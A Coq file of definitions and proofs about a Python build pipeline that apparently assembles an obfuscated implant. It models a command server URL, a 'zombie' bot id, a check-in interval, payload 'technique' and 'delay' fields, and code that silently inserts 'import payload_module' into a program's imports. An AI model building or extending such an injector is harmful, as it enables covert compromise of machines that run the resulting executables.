Fixpoint read_fields (v : jvalue) (keys : list string) : result (list jvalue) :=
  match keys with
  | [] => Val []
  | k :: rest =>
      match field v k with
      | Val x =>
          match read_fields v rest with
          | Val xs => Val (x :: xs)
          | Raise e => Raise e
          end
      | Raise e => Raise e
      end
  end.

Definition payload_keys : list string := ["source"; "size"; "technique"; "delay"].

(** [main] after [build()], in full: the five values of the summary, the
    four of the payload section when the record has one, and the
    executable name once more for the closing line; exit status 1 on
    failure. *)
Definition main_report (outcome : bool * option metadata) : result (list jvalue + Z) :=
  match outcome with
  | (true, Some m) =>
      match read_keys m summary_keys with
      | Val vs =>
          match (match m !! "payload" with
                 | Some v => read_fields v payload_keys
                 | None => Val []
                 end) with
          | Val ps =>
              match subscript m "executable" with
              | Val e => Val (inl (vs ++ ps ++ [e]))
              | Raise e => Raise e
              end
          | Raise e => Raise e
          end
      | Raise e => Raise e
      end
  | (true, None) => Raise OtherError
  | (false, _) => Val (inr 1%Z)
  end.

(** A character that can stand between double quotes in Python source as
    itself: no quote, no backslash, no line break. *)
Definition literal_safe (c : ascii) : bool :=
  negb (Ascii.eqb c (ascii_of_nat 34)) && negb (Ascii.eqb c backslash)
  && negb (Ascii.eqb c newline) && negb (Ascii.eqb c (ascii_of_nat 13)).

Fixpoint all_chars (P : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => P c && all_chars P s'
  end.

(** The demonstration project after obfuscation. *)
Definition obfuscated_world : world :=
  (_obfuscate_code linux_host linux_builder customized_world).2.





(** What cleanup deletes: the build root with all below it, and the
    [*.spec] entries of the working directory. *)
Definition swept (b : builder) (p : path) : Prop :=
  build_dir b `prefix_of` p \/ spec_entry b p.

(** The demonstration project built into a directory inside the build
    root. *)
Definition inside_builder : builder :=
  Builder "linux" "http://203.0.113.5:8080" "basic" None None 30 "direct" false
          ["w"; "build"; "out"] "zombie_00000001" "20240101000000" ["w"].

Definition inside_host : host :=
  demo_host_with (3, 11, 2)%nat (executable_name inside_builder) pyarmor_rejects.


(** * Reasoning about stage code *)

(** ** The model evaluates

    Sample evaluations of the file-system operations, the text helpers,
    the template parser and the codecs, against the values Python gives. *)

Example listdir_demo : listdir fs_demo ["w"; "build"] = Some ["a"].
Proof. vm_compute. reflexivity. Qed.

Example rmtree_demo : exists_ (rmtree fs_demo ["w"; "build"]) ["w"; "build"; "a"] = false.
Proof. vm_compute. reflexivity. Qed.

Example makedirs_demo :
  (makedirs fs_demo ["w"; "build"; "prep"] ≫= fun fs => Some (isdir fs ["w"; "build"; "prep"])) = Some true.
Proof. vm_compute. reflexivity. Qed.

Example replace_all_demo :
  replace_all "CHECK_IN_INTERVAL = 300" "CHECK_IN_INTERVAL = 600"
    "a; CHECK_IN_INTERVAL = 3000; CHECK_IN_INTERVAL = 300" =
  "a; CHECK_IN_INTERVAL = 6000; CHECK_IN_INTERVAL = 600".
Proof. reflexivity. Qed.

Example sub_import_line_demo :
  option_map (fun ps => sub_import_line ps
     ("a" +:+ nl +:+ "import os" +:+ nl +:+ nl +:+ nl +:+ "import sys" +:+ nl +:+ "foo import"))
    (parse_template true 1 (fun _ => None) import_template) =
  Some ("a" +:+ nl +:+ "import os" +:+ nl +:+ nl +:+ nl +:+ "try:" +:+ nl
        +:+ "    import payload_module" +:+ nl +:+ "except ImportError:" +:+ nl
        +:+ "    pass" +:+ nl +:+ nl +:+ "import sys" +:+ nl +:+ "foo import").
Proof. vm_compute. reflexivity. Qed.

Example sub_import_line_last : has_import_line "import os" = false.
Proof. reflexivity. Qed.

Example template_bad_escape :
  parse_template true 0 (fun _ => None) (String "a" (String backslash "Mb")) = None
  /\ parse_template false 0 (fun _ => None) (String "a" (String backslash "Mb"))
     = Some [Lit "a"; Lit backslash; Lit "M"; Lit "b"]%char
  /\ parse_template true 0 (fun _ => None) (String "x" (String backslash "1")) = None
  /\ parse_template true 0 (fun _ => None) (String "x" (String backslash "n"))
     = Some [Lit "x"; Lit newline]%char
  /\ parse_template true 0 (fun _ => None) (String "x" (String backslash EmptyString)) = None.
Proof. repeat split; reflexivity. Qed.

Example b64_demo : b64encode "@echo off" = "QGVjaG8gb2Zm" /\ b64encode "hi" = "aGk="
  /\ b64decode "aGk=" = Some "hi" /\ b64decode "QQ==" = Some "A".
Proof. repeat split; vm_compute; reflexivity. Qed.

Example b85_demo :
  b85encode "print(1)" = "aB^vGbSN<?" /\ b85encode "hello" = "Xk~0{Zv"
  /\ b85decode "Xk~0{Zv" = Some "hello" /\ b85decode "aB^vGbSN<?" = Some "print(1)".
Proof. repeat split; vm_compute; reflexivity. Qed.

Lemma is_some_true {A} (x : option A) : is_some x = true -> is_Some x.
Proof. destruct x; [eauto | discriminate]. Qed.

(** ** Postconditions

    [post m w Q]: running [m] from [w] ends in a result and a world that
    satisfy [Q].  The rules follow the combinators of the monad. *)

Lemma post_run {A} (m : M A) w r w' (Q : result A -> world -> Prop) :
  post m w Q -> m w = (r, w') -> Q r w'.
Proof. unfold post. intros HQ E. rewrite E in HQ. exact HQ. Qed.

Lemma post_weaken {A} (m : M A) w (Q Q' : result A -> world -> Prop) :
  post m w Q -> (forall r w', Q r w' -> Q' r w') -> post m w Q'.
Proof. unfold post. auto. Qed.

Lemma post_conj {A} (m : M A) w (Q Q' : result A -> world -> Prop) :
  post m w Q -> post m w Q' -> post m w (fun r w' => Q r w' /\ Q' r w').
Proof. unfold post. auto. Qed.

Lemma post_ret {A} (a : A) w (Q : result A -> world -> Prop) :
  Q (Val a) w -> post (ret a) w Q.
Proof. auto. Qed.

Lemma post_raise {A} e w (Q : result A -> world -> Prop) :
  Q (Raise e) w -> post (raise e) w Q.
Proof. auto. Qed.

Lemma post_bind {A B} (m : M A) (k : A -> M B) w (Q : result B -> world -> Prop) :
  post m w (fun r w1 =>
    match r with
    | Val a => post (k a) w1 Q
    | Raise e => Q (Raise e) w1
    end) ->
  post (bind m k) w Q.
Proof. unfold post, bind. destruct (m w) as [[a|e] w1]; auto. Qed.

Lemma post_try_except {A} (body : M A) handler w (Q : result A -> world -> Prop) :
  post body w (fun r w1 =>
    match r with
    | Val a => Q (Val a) w1
    | Raise e => post (handler e) w1 Q
    end) ->
  post (try_except body handler) w Q.
Proof. unfold post, try_except. destruct (body w) as [[a|e] w1]; auto. Qed.

Lemma post_try_except_only {A} sel (body handler : M A) w (Q : result A -> world -> Prop) :
  post body w (fun r w1 =>
    match r with
    | Val a => Q (Val a) w1
    | Raise e => if sel e : bool then post handler w1 Q else Q (Raise e) w1
    end) ->
  post (try_except_only sel body handler) w Q.
Proof.
  unfold post, try_except_only.
  destruct (body w) as [[a|e] w1]; auto. simpl. destruct (sel e); auto.
Qed.

Lemma post_and_then (check rest : M bool) w (Q : result bool -> world -> Prop) :
  post check w (fun r w1 =>
    match r with
    | Val true => post rest w1 Q
    | Val false => Q (Val false) w1
    | Raise e => Q (Raise e) w1
    end) ->
  post (and_then check rest) w Q.
Proof.
  intros H. unfold and_then. apply post_bind.
  eapply post_weaken; [exact H|]. intros [[|]|e] w1; auto.
Qed.

Lemma post_log l msg w (Q : result unit -> world -> Prop) :
  Q (Val tt) (emit (Log l msg) w) -> post (log l msg) w Q.
Proof. auto. Qed.

Lemma post_enter s w (Q : result unit -> world -> Prop) :
  Q (Val tt) (emit (Enter s) w) -> post (enter s) w Q.
Proof. auto. Qed.

Lemma post_get {A} (f : world -> A) w (Q : result A -> world -> Prop) :
  Q (Val (f w)) w -> post (get f) w Q.
Proof. auto. Qed.

Lemma post_update f w (Q : result unit -> world -> Prop) :
  Q (Val tt) (f w) -> post (update f) w Q.
Proof. auto. Qed.

Lemma post_fs_test q w (Q : result bool -> world -> Prop) :
  Q (Val (q (fs w))) w -> post (fs_test q) w Q.
Proof. auto. Qed.

Lemma post_fs_total op w (Q : result unit -> world -> Prop) :
  Q (Val tt) (set_fs (op (fs w)) w) -> post (fs_total op) w Q.
Proof. auto. Qed.

Lemma post_fs_update op w (Q : result unit -> world -> Prop) :
  (forall f', op (fs w) = Some f' -> Q (Val tt) (set_fs f' w)) ->
  (op (fs w) = None -> Q (Raise OtherError) w) ->
  post (fs_update op) w Q.
Proof.
  unfold post, fs_update. intros Hs Hn.
  destruct (op (fs w)) as [f'|]; simpl; auto.
Qed.

Lemma post_fs_query {A} (q : filesystem -> option A) w (Q : result A -> world -> Prop) :
  (forall a, q (fs w) = Some a -> Q (Val a) w) ->
  (q (fs w) = None -> Q (Raise OtherError) w) ->
  post (fs_query q) w Q.
Proof.
  unfold post, fs_query. intros Hs Hn.
  destruct (q (fs w)) as [a|]; simpl; auto.
Qed.

Lemma post_check_output c outcome w (Q : result unit -> world -> Prop) :
  match outcome with
  | None => Q (Val tt) (emit (Run c) w)
  | Some e => Q (Raise e) (emit (Run c) w)
  end ->
  post (check_output c outcome) w Q.
Proof. unfold post, check_output. destruct outcome; auto. Qed.

Lemma post_chdir d w (Q : result unit -> world -> Prop) :
  (isdir (fs w) d = true -> Q (Val tt) w) ->
  (isdir (fs w) d = false -> Q (Raise OtherError) w) ->
  post (chdir d) w Q.
Proof. unfold post, chdir. destruct (isdir (fs w) d); auto. Qed.

(** A loop keeps what every iteration keeps, whether it ends or raises. *)
Lemma post_for_each {A} (xs : list A) body (I : world -> Prop) w :
  I w ->
  (forall x w1, I w1 -> post (body x) w1 (fun _ w2 => I w2)) ->
  post (for_each xs body) w (fun _ w' => I w').
Proof.
  intros Hw Hstep. revert w Hw.
  induction xs as [|x xs IH]; intros w Hw; simpl.
  - apply post_ret. exact Hw.
  - apply post_bind. eapply post_weaken; [apply (Hstep x w Hw)|].
    intros [[]|e] w1 H1; simpl; auto.
Qed.

Lemma returns_try_except {A} (body : M A) handler :
  (forall e, returns (handler e)) -> returns (try_except body handler).
Proof.
  intros Hh w. unfold try_except.
  destruct (body w) as [[a|e] w1]; [eauto|apply Hh].
Qed.

Lemma returns_bind {A B} (m : M A) (k : A -> M B) :
  returns m -> (forall a, returns (k a)) -> returns (bind m k).
Proof.
  intros Hm Hk w. unfold bind.
  destruct (Hm w) as (a & w1 & ->). apply Hk.
Qed.

Lemma returns_ret {A} (a : A) : returns (ret a).
Proof. intros w. exists a, w. reflexivity. Qed.

Lemma returns_log l msg : returns (log l msg).
Proof. intros w. eexists _, _. reflexivity. Qed.

Lemma returns_enter s : returns (enter s).
Proof. intros w. eexists _, _. reflexivity. Qed.

Create HintDb returns.
#[global] Hint Resolve returns_try_except returns_bind returns_ret returns_log returns_enter
  : returns.

(** ** Every stage returns a boolean *)

Lemma _check_dependencies_returns h b : returns (_check_dependencies h b).
Proof. unfold _check_dependencies. auto 10 with returns. Qed.

Lemma _prepare_build_environment_returns h b : returns (_prepare_build_environment h b).
Proof. unfold _prepare_build_environment. auto 10 with returns. Qed.

Lemma _modify_source_code_returns h b : returns (_modify_source_code h b).
Proof. unfold _modify_source_code. auto 10 with returns. Qed.

Lemma _manual_obfuscation_returns h b : returns (_manual_obfuscation h b).
Proof. unfold _manual_obfuscation. auto 10 with returns. Qed.

Lemma _obfuscate_code_returns h b : returns (_obfuscate_code h b).
Proof.
  unfold _obfuscate_code. apply returns_bind; [apply returns_enter|]. intros _.
  apply returns_try_except. intros e.
  auto 10 using _manual_obfuscation_returns with returns.
Qed.

Lemma _compile_executable_returns h b : returns (_compile_executable h b).
Proof. unfold _compile_executable. auto 10 with returns. Qed.

Lemma _generate_metadata_returns h b : returns (_generate_metadata h b).
Proof. unfold _generate_metadata. auto 10 with returns. Qed.

Lemma post_any {A} (m : M A) w (Q : result A -> world -> Prop) :
  (forall r w', Q r w') -> post m w Q.
Proof. unfold post. auto. Qed.

Lemma post_exists {A} (m : M A) w (P : result A -> Prop) :
  post m w (fun r _ => P r) -> exists r w', m w = (r, w') /\ P r.
Proof. unfold post. destruct (m w) as [r w'] eqn:E. simpl. eauto. Qed.

(** The cleanup stage returns [True] on both ways out. *)
Lemma _clean_up_true h b w : exists w', _clean_up h b w = (Val true, w').
Proof.
  assert (H : post (_clean_up h b) w (fun r _ => r = Val true)).
  { unfold _clean_up. apply post_bind, post_enter.
    apply post_try_except, post_bind, post_any.
    intros [[]|e] w1.
    - apply post_ret. reflexivity.
    - apply post_bind, post_log, post_ret. reflexivity. }
  apply post_exists in H. destruct H as (r & w' & E & ->). eauto.
Qed.

(** ** Relations kept by a computation

    [keeps R m]: whatever [m] does, the world it ends in is related by [R]
    to the world it started from.  For a preorder [R] this is closed under
    the combinators, so that a stage keeps [R] as soon as its primitive
    steps do. *)

Section Keeps.
Context (R : world -> world -> Prop) `{!PreOrder R}.

Local Lemma R_refl w : R w w.
Proof. reflexivity. Qed.

Local Lemma R_trans w1 w2 w3 : R w1 w2 -> R w2 w3 -> R w1 w3.
Proof. intros. etransitivity; eassumption. Qed.

Lemma keeps_ret {A} (a : A) : keeps R (ret a).
Proof. intros w. apply post_ret, R_refl. Qed.

Lemma keeps_raise {A} e : keeps R (@raise A e).
Proof. intros w. apply post_raise, R_refl. Qed.

Lemma keeps_get {A} (f : world -> A) : keeps R (get f).
Proof. intros w. apply post_get, R_refl. Qed.

Lemma keeps_fs_test q : keeps R (fs_test q).
Proof. intros w. apply post_fs_test, R_refl. Qed.

Lemma keeps_fs_query {A} (q : filesystem -> option A) : keeps R (fs_query q).
Proof. intros w. apply post_fs_query; intros; apply R_refl. Qed.

Lemma keeps_chdir d : keeps R (chdir d).
Proof. intros w. apply post_chdir; intros; apply R_refl. Qed.

Lemma keeps_bind {A B} (m : M A) (k : A -> M B) :
  keeps R m -> (forall a, keeps R (k a)) -> keeps R (bind m k).
Proof.
  intros Hm Hk w. apply post_bind.
  eapply post_weaken; [apply Hm|]. intros [a|e] w1 H1; [|exact H1].
  eapply post_weaken; [apply Hk|]. simpl. eauto using R_trans.
Qed.

Lemma keeps_try_except {A} (body : M A) handler :
  keeps R body -> (forall e, keeps R (handler e)) -> keeps R (try_except body handler).
Proof.
  intros Hb Hh w. apply post_try_except.
  eapply post_weaken; [apply Hb|]. intros [a|e] w1 H1; [exact H1|].
  eapply post_weaken; [apply Hh|]. simpl. eauto using R_trans.
Qed.

Lemma keeps_try_except_only {A} sel (body handler : M A) :
  keeps R body -> keeps R handler -> keeps R (try_except_only sel body handler).
Proof.
  intros Hb Hh w. apply post_try_except_only.
  eapply post_weaken; [apply Hb|]. intros [a|e] w1 H1; [exact H1|].
  destruct (sel e); [|exact H1].
  eapply post_weaken; [apply Hh|]. simpl. eauto using R_trans.
Qed.

Lemma keeps_and_then (check rest : M bool) :
  keeps R check -> keeps R rest -> keeps R (and_then check rest).
Proof.
  intros Hc Hr. unfold and_then. apply keeps_bind; [exact Hc|].
  intros [|]; [exact Hr|apply keeps_ret].
Qed.

Lemma keeps_for_each {A} (xs : list A) body :
  (forall x, keeps R (body x)) -> keeps R (for_each xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl.
  - apply keeps_ret.
  - apply keeps_bind; [apply Hb|]. intros _. exact IH.
Qed.

Lemma keeps_step {A} (m : M A) :
  (forall w, R w (m w).2) -> keeps R m.
Proof. intros H w. apply H. Qed.

Lemma keeps_fs_update op :
  (forall w f', op (fs w) = Some f' -> R w (set_fs f' w)) -> keeps R (fs_update op).
Proof. intros H w. apply post_fs_update; [apply H|intros; apply R_refl]. Qed.

Lemma keeps_check_required files :
  (forall l msg, keeps R (log l msg)) -> keeps R (check_required files).
Proof.
  intros Hlog. induction files as [|p rest IH]; simpl.
  - apply keeps_ret.
  - apply keeps_bind; [apply keeps_fs_test|]. intros [|]; [exact IH|].
    apply keeps_bind; [apply Hlog|]. intros _.
    apply keeps_bind; [apply keeps_fs_query|]. intros _.
    apply keeps_bind; [apply Hlog|]. intros _. apply keeps_ret.
Qed.
End Keeps.

(** Structural descent through stage code: what is left are the
    primitive steps that change the world. *)
Ltac keeps_structure :=
  repeat
    lazymatch goal with
    | |- keeps _ (ret _) => apply keeps_ret; exact _
    | |- keeps _ (raise _) => apply keeps_raise; exact _
    | |- keeps _ (get _) => apply keeps_get; exact _
    | |- keeps _ (fs_test _) => apply keeps_fs_test; exact _
    | |- keeps _ (fs_query _) => apply keeps_fs_query; exact _
    | |- keeps _ (chdir _) => apply keeps_chdir; exact _
    | |- keeps _ (bind _ _) => apply keeps_bind; [exact _| |intros ?]
    | |- keeps _ (try_except _ _) => apply keeps_try_except; [exact _| |intros ?]
    | |- keeps _ (try_except_only _ _ _) => apply keeps_try_except_only; [exact _| |]
    | |- keeps _ (and_then _ _) => apply keeps_and_then; [exact _| |]
    | |- keeps _ (for_each _ _) => apply keeps_for_each; [exact _|intros ?]
    | |- keeps _ (let _ := _ in _) => cbv zeta
    | |- keeps _ (if ?c then _ else _) => destruct c
    | |- keeps _ (match ?x with _ => _ end) => destruct x
    end.

(** ** Stage entries in the trace *)

#[global] Instance same_entries_preorder : PreOrder same_entries.
Proof. split; unfold same_entries; [intros w|intros w1 w2 w3]; congruence. Qed.

Lemma entered_snoc t e :
  entered (t ++ [e]) = entered t ++ match e with Enter s => [s] | _ => [] end.
Proof. unfold entered. rewrite omap_app. destruct e; reflexivity. Qed.

Lemma quiet_log l msg : keeps same_entries (log l msg).
Proof.
  apply keeps_step. intros w. unfold same_entries. simpl.
  rewrite entered_snoc. apply app_nil_r.
Qed.

Lemma quiet_fs_update op : keeps same_entries (fs_update op).
Proof. apply keeps_fs_update; [exact _|]. intros. unfold same_entries. reflexivity. Qed.

Lemma quiet_fs_total op : keeps same_entries (fs_total op).
Proof. apply keeps_step. intros. unfold same_entries. reflexivity. Qed.

Lemma quiet_check_output c outcome : keeps same_entries (check_output c outcome).
Proof.
  apply keeps_step. intros w. unfold same_entries, check_output.
  destruct outcome; simpl; rewrite entered_snoc; apply app_nil_r.
Qed.

Lemma quiet_run_pyarmor h args cwd : keeps same_entries (run_pyarmor h args cwd).
Proof.
  apply keeps_step. intros w. unfold same_entries, run_pyarmor.
  destruct (pyarmor_obfuscate h args cwd (fs w)) as [[e|] f]; simpl;
    rewrite entered_snoc; apply app_nil_r.
Qed.

Lemma quiet_run_pyinstaller h args cwd : keeps same_entries (run_pyinstaller h args cwd).
Proof.
  apply keeps_step. intros w. unfold same_entries, run_pyinstaller.
  destruct (pyinstaller_run h args cwd (fs w)) as [[rc|e] f]; simpl;
    rewrite entered_snoc; apply app_nil_r.
Qed.

Ltac quiet :=
  repeat first
    [ progress keeps_structure
    | apply quiet_log
    | apply quiet_fs_update
    | apply quiet_fs_total
    | apply quiet_check_output
    | apply quiet_run_pyarmor
    | apply quiet_run_pyinstaller
    | apply keeps_check_required; [exact _|exact quiet_log]
    | apply keeps_step; intros ?; unfold same_entries; reflexivity ].

Ltac quiet_with tac := repeat first [ tac | progress quiet ].

Lemma quiet__create_payload_module h b : keeps same_entries (_create_payload_module h b).
Proof. unfold _create_payload_module. quiet. Qed.

Lemma quiet__manual_obfuscation h b : keeps same_entries (_manual_obfuscation h b).
Proof. unfold _manual_obfuscation. quiet. Qed.

Lemma quiet__try_pyarmor_obfuscation h b : keeps same_entries (_try_pyarmor_obfuscation h b).
Proof. unfold _try_pyarmor_obfuscation. quiet. Qed.

Lemma quiet__generate_spec_file h b : keeps same_entries (_generate_spec_file h b).
Proof. unfold _generate_spec_file. quiet. Qed.

Lemma enters_then {A} s (rest : M A) w :
  keeps same_entries rest ->
  post (enter s ;; rest) w (fun _ w' => entered (trace w') = entered (trace w) ++ [s]).
Proof.
  intros Hq. apply post_bind, post_enter.
  eapply post_weaken; [apply Hq|]. intros _ w' ->. apply entered_snoc.
Qed.

Lemma stage_post_intro {A} s (rest : M A) w :
  returns (enter s ;; rest) -> keeps same_entries rest ->
  post (enter s ;; rest) w (stage_post s w).
Proof.
  intros Hr Hq. apply post_conj; [|apply enters_then, Hq].
  destruct (Hr w) as (a & w' & E). unfold post. rewrite E. eauto.
Qed.

Lemma gate_post h b s w : post (gate h b s) w (stage_post s w).
Proof.
  destruct s; simpl.
  - apply stage_post_intro; [apply _check_dependencies_returns|]. quiet.
  - apply stage_post_intro; [apply _prepare_build_environment_returns|].
    quiet_with ltac:(apply quiet__create_payload_module).
  - apply stage_post_intro; [apply _modify_source_code_returns|]. quiet.
  - apply stage_post_intro; [apply _obfuscate_code_returns|].
    quiet_with ltac:(first [apply quiet__manual_obfuscation
                           |apply quiet__try_pyarmor_obfuscation]).
  - apply stage_post_intro; [apply _compile_executable_returns|].
    quiet_with ltac:(apply quiet__generate_spec_file).
  - apply post_bind.
    eapply post_weaken;
      [apply (stage_post_intro GenerateMetadata); [apply _generate_metadata_returns|quiet]|].
    intros r w' [[m ->] Ht]. apply post_ret. split; eauto.
  - apply stage_post_intro; [|quiet].
    intros w0. destruct (_clean_up_true h b w0) as [w' E]. eauto.
Qed.

Lemma _generate_metadata_post h b w :
  post (_generate_metadata h b) w (stage_post GenerateMetadata w).
Proof.
  apply stage_post_intro; [apply _generate_metadata_returns|]. quiet.
Qed.

Lemma first_failure_post h b stages w :
  post (first_failure h b stages) w (fun r w1 =>
    exists failed, r = Val failed /\
      match failed with
      | Some s => exists before rest,
          stages = before ++ s :: rest /\
          entered (trace w1) = entered (trace w) ++ before ++ [s]
      | None => entered (trace w1) = entered (trace w) ++ stages
      end).
Proof.
  revert w. induction stages as [|s stages IH]; intros w; simpl.
  - apply post_ret. exists None. rewrite app_nil_r. auto.
  - apply post_bind. eapply post_weaken; [apply gate_post|].
    intros r w1 [[ok ->] Ht]. destruct ok.
    + eapply post_weaken; [apply IH|]. intros r w2 (failed & -> & Hf).
      exists failed. split; [reflexivity|]. destruct failed as [s'|].
      * destruct Hf as (before & rest & -> & Ht2).
        exists (s :: before), rest. split; [reflexivity|].
        rewrite Ht2, Ht, <- app_assoc. reflexivity.
      * rewrite Hf, Ht, <- app_assoc. reflexivity.
    + apply post_ret. exists (Some s). split; [reflexivity|].
      exists [], stages. auto.
Qed.

Lemma build_unfolds_to_design h b w : build h b w = build_by_design h b w.
Proof.
  unfold build, build_by_design, gates, pipeline. simpl first_failure. unfold gate.
  unfold bind, log, ret.
  repeat match goal with
         | |- context [match ?m ?x with _ => _ end] =>
             lazymatch m with
             | _check_dependencies _ _ => idtac
             | _prepare_build_environment _ _ => idtac
             | _modify_source_code _ _ => idtac
             | _obfuscate_code _ _ => idtac
             | _compile_executable _ _ => idtac
             end;
             destruct (m x) as [[[|]|?] ?]; simpl; try reflexivity
         end.
Qed.

Lemma gates_prefix before s rest :
  gates = before ++ s :: rest ->
  s ∈ gates /\ before ++ [s] = take (S (stage_index s)) pipeline.
Proof.
  intros E. split.
  - rewrite E. apply elem_of_app. right. apply elem_of_cons. auto.
  - unfold gates, pipeline in *. simpl in E.
    destruct before as [|a [|a1 [|a2 [|a3 [|a4 [|a5 tl]]]]]];
      simpl in E; simplify_eq; try reflexivity.
Qed.

(** C1. [build()] runs the gates in order up to the first that reports
    failure and then returns [(False, None)] with no later stage entered;
    when all five pass it runs metadata generation and cleanup and returns
    [(True, metadata)] with a record, whatever happened inside those two
    stages.  The stages entered are always an initial part of the fixed
    order. *)
Theorem build_runs_stages_in_order h b w :
  build h b w = build_by_design h b w /\
  exists failed w1,
    first_failure h b gates
      (emit (Log Info "Build ID") (emit (Log Info "Starting build process") w))
      = (Val failed, w1) /\
    match failed with
    | Some s =>
        build h b w = (Val (false, None), emit (Log Error (abort_message s)) w1) /\
        s ∈ gates /\
        entered (trace w1) = entered (trace w) ++ take (S (stage_index s)) pipeline
    | None =>
        exists m w',
          build h b w = (Val (true, Some m), w') /\
          entered (trace w') = entered (trace w) ++ pipeline
    end.
Proof.
  split; [apply build_unfolds_to_design|].
  remember (emit (Log Info "Build ID") (emit (Log Info "Starting build process") w))
    as w0 eqn:Ew0.
  assert (Hw0 : entered (trace w0) = entered (trace w)).
  { subst w0. simpl. rewrite !entered_snoc, !app_nil_r. reflexivity. }
  pose proof (first_failure_post h b gates w0) as H. unfold post in H.
  destruct (first_failure h b gates w0) as [r w1] eqn:E. simpl in H.
  destruct H as (failed & -> & Hf). exists failed, w1. split; [reflexivity|].
  destruct failed as [s|].
  - destruct Hf as (before & rest & Hg & Ht).
    destruct (gates_prefix _ _ _ Hg) as [Hin Htake].
    split; [|split; [exact Hin|]].
    + rewrite build_unfolds_to_design. unfold build_by_design, bind, log.
      rewrite <- Ew0, E. reflexivity.
    + rewrite Ht, Hw0, <- Htake. reflexivity.
  - pose proof (_generate_metadata_post h b w1) as Hm. unfold post in Hm.
    destruct (_generate_metadata h b w1) as [rm w2] eqn:Em. simpl in Hm.
    destruct Hm as [[m ->] Htm].
    pose proof (gate_post h b CleanUp w2) as Hc. unfold post in Hc. simpl in Hc.
    destruct (_clean_up_true h b w2) as [w3 Ec]. rewrite Ec in Hc. simpl in Hc.
    destruct Hc as [_ Htc].
    eexists m, _. split.
    + rewrite build_unfolds_to_design. unfold build_by_design, bind, log.
      rewrite <- Ew0, E, Em, Ec. reflexivity.
    + simpl. rewrite !entered_snoc, !app_nil_r, Htc, Htm, Hf, Hw0.
      unfold gates, pipeline. simpl. rewrite <- !app_assoc. reflexivity.
Qed.

(** ** Facts about the file-system operations *)

Lemma write_file_Some f p c f' :
  write_file f p c = Some f' ->
  f' = <[p := File c]> f /\ isdir f (dirname p) = true /\ isdir f p = false.
Proof.
  unfold write_file. destruct p as [|s p]; [discriminate|].
  destruct (isdir f (dirname (s :: p))) eqn:E1; [|discriminate].
  destruct (isdir f (s :: p)) eqn:E2; [discriminate|].
  simpl. intros [= <-]. auto.
Qed.

Lemma write_file_lookup f p c f' :
  write_file f p c = Some f' -> f' !! p = Some (File c).
Proof. intros H. apply write_file_Some in H as (-> & _). apply lookup_insert_eq. Qed.

Lemma write_file_other f p c f' q :
  write_file f p c = Some f' -> q ≠ p -> f' !! q = f !! q.
Proof.
  intros H Hne. apply write_file_Some in H as (-> & _).
  apply lookup_insert_ne. congruence.
Qed.

Lemma isdir_true f p : isdir f p = true <-> f !! p = Some Dir.
Proof. unfold isdir. destruct (f !! p) as [[]|]; split; congruence. Qed.

Lemma exists_true f p : exists_ f p = true <-> is_Some (f !! p).
Proof.
  unfold exists_. destruct (f !! p); split; intros H; try done.
Qed.

(** Writing never replaces a directory. *)
Lemma write_file_dir f p c f' q :
  write_file f p c = Some f' -> f !! q = Some Dir -> f' !! q = Some Dir.
Proof.
  intros H Hq. destruct (decide (q = p)) as [->|Hne].
  - apply write_file_Some in H as (_ & _ & Hd).
    apply isdir_true in Hq. congruence.
  - rewrite (write_file_other _ _ _ _ _ H Hne). exact Hq.
Qed.

Lemma copy2_Some f src dst f' :
  copy2 f src dst = Some f' ->
  exists c, f !! src = Some (File c) /\ src ≠ copy_target f src dst /\
            write_file f (copy_target f src dst) c = Some f'.
Proof.
  unfold copy2, copy_target. destruct (f !! src) as [[c|]|]; try discriminate.
  case_bool_decide; [discriminate|]. eauto.
Qed.

Lemma join_ne_self d name : join d name ≠ d.
Proof.
  unfold join. intros E. apply (f_equal length) in E.
  rewrite length_app in E. simpl in E. lia.
Qed.

Lemma copy2_exists f src dst f' :
  copy2 f src dst = Some f' -> exists_ f' dst = true.
Proof.
  intros H. apply copy2_Some in H as (c & _ & _ & Hw). unfold copy_target in Hw.
  apply exists_true. destruct (isdir f dst) eqn:Ed.
  - apply isdir_true in Ed. rewrite (write_file_dir _ _ _ _ _ Hw Ed). eauto.
  - rewrite (write_file_lookup _ _ _ _ Hw). eauto.
Qed.

Lemma copy2_dir f src dst f' q :
  copy2 f src dst = Some f' -> f !! q = Some Dir -> f' !! q = Some Dir.
Proof.
  intros H. apply copy2_Some in H as (c & _ & _ & Hw). eapply write_file_dir, Hw.
Qed.

(** [makedirs] changes nothing that exists: it only adds directories, on
    the way to its argument. *)
Lemma makedirs_from_spec rest : forall f pre f',
  makedirs_from f pre rest = Some f' ->
  (forall p x, f !! p = Some x -> f' !! p = Some x) /\
  f' !! (pre ++ rest) = Some Dir /\
  (forall p, f !! p = None -> is_Some (f' !! p) ->
             f' !! p = Some Dir /\ p `prefix_of` pre ++ rest).
Proof.
  induction rest as [|s rest IH]; intros f pre f' H; simpl in H.
  - assert (Hpre : f !! pre ≠ None -> f !! pre = Some Dir).
    { destruct (f !! pre) as [[c|]|]; congruence. }
    assert (f' = <[pre := Dir]> f) as ->
      by (destruct (f !! pre) as [[c|]|]; congruence).
    rewrite app_nil_r. split; [|split].
    + intros p x Hp. destruct (decide (p = pre)) as [->|Hne].
      * rewrite lookup_insert_eq. rewrite Hpre in Hp by congruence. congruence.
      * rewrite lookup_insert_ne by congruence. exact Hp.
    + apply lookup_insert_eq.
    + intros p Hn Hs. destruct (decide (p = pre)) as [->|Hne].
      * rewrite lookup_insert_eq. split; [reflexivity|]. reflexivity.
      * rewrite lookup_insert_ne in Hs by congruence. rewrite Hn in Hs.
        destruct Hs; discriminate.
  - assert (Hpre : f !! pre ≠ None -> f !! pre = Some Dir).
    { destruct (f !! pre) as [[c|]|]; congruence. }
    assert (Hrec : makedirs_from (<[pre := Dir]> f) (join pre s) rest = Some f')
      by (destruct (f !! pre) as [[c|]|]; congruence).
    apply IH in Hrec as (Hmono & Hend & Hnew). unfold join in *.
    rewrite <- app_assoc in Hend, Hnew. simpl in Hend, Hnew.
    split; [|split; [exact Hend|]].
    + intros p x Hp. apply Hmono. destruct (decide (p = pre)) as [->|Hne].
      * rewrite lookup_insert_eq. rewrite Hpre in Hp by congruence. congruence.
      * rewrite lookup_insert_ne by congruence. exact Hp.
    + intros p Hn Hs. destruct (decide (p = pre)) as [->|Hne].
      * split; [|apply prefix_app_r; reflexivity].
        apply Hmono. apply lookup_insert_eq.
      * apply Hnew; [|exact Hs]. rewrite lookup_insert_ne by congruence. exact Hn.
Qed.

Lemma makedirs_keeps f p f' q x :
